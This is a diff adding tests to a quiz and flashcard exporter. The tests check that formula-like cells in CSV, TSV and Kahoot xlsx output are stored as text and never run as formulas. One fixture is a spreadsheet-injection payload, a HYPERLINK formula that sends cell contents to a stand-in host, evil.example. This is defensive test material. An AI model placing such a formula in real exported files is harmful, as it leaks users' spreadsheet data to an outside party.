@@ -329,6 +329,36 @@ def test_tsv_for_quizlet_has_one_line_per_card(tmp_path: Path) -> None:
     assert all(line.count("\t") == 1 for line in lines)
 
 
+# ---- cells a spreadsheet would run as formulas ----------------------------------------------------
+
+LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+FORMULAS = ("=1+1", LINK, "@SUM(1+1)", "+1+1", "-1+1")
+HOSTILE = dataclasses.replace(CHOICE, id="f1", prompt="=1+1", answer=LINK, choices=(LINK, "@SUM(1+1)", "+1+1", "-1+1"))
+
+
+@pytest.mark.parametrize("name", ["cards.csv", "cards.tsv"])
+def test_csv_cells_that_start_like_formulas_are_kept_as_text(tmp_path: Path, name: str) -> None:
+    out = tmp_path / name
+    export(one_set(HOSTILE, dataclasses.replace(SHORT, id="f2", prompt="@cmd", answer="+7")), "csv", out)
+    with out.open(newline="", encoding="utf-8") as f:
+        rows = list(csv.reader(f, delimiter="\t" if name.endswith(".tsv") else ","))
+    assert rows == [["'=1+1", "'" + LINK], ["'@cmd", "'+7"]]
+
+
+def test_kahoot_stores_formula_like_text_as_text(tmp_path: Path) -> None:
+    out = tmp_path / "quiz.xlsx"
+    export([QuestionSet("=1+1 quiz", (HOSTILE,))], "kahoot", out)
+    ws = openpyxl.load_workbook(out).active
+    cells = [ws.cell(row=HEADER_ROW + 1, column=c) for c in range(2, 7)] + [ws["B3"]]
+    assert [c.value for c in cells[:5]] == ["=1+1", *HOSTILE.choices]
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells), [(c.value, c.data_type) for c in cells]
+    assert cells[5].value.startswith("=1+1 quiz")
+    with zipfile.ZipFile(out) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere in the file
+    assert ws.cell(row=HEADER_ROW + 1, column=8).data_type == "n"  # numbers stay numbers
+
+
 def test_json_is_the_generate_contract(tmp_path: Path) -> None:
     out = tmp_path / "q.json"
     export([sample_set()], "json", out)
